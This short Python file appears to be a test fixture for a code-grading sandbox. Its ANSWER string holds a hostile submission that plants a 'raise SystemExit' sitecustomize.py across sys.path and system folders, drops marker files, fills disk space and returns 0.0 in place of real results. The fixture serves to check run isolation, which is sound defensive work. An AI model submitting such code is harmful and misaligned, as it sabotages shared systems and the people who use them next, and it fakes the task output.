"""Writes files, shared memory and links wherever it can, for whoever comes next."""

ANSWER = r"""
import os
import sys

NAME = "gradecheck-left-behind"
places = ["/tmp", "/var/tmp", "/dev/shm", "/home", "/home/nb", "/run", "/", "/etc", "/site", "/rt/inside"]
for folder in [*places, *sys.path]:
    for name in (NAME, "sitecustomize.py"):
        try:
            with open(os.path.join(folder, name), "w") as file:
                file.write("raise SystemExit")
        except OSError:
            pass


def mean(values):
    return 0.0


def largest(values):
    with open(os.path.expanduser("~/" + NAME), "a") as file:
        file.write("x" * 1_000_000)
    return 0.0
"""
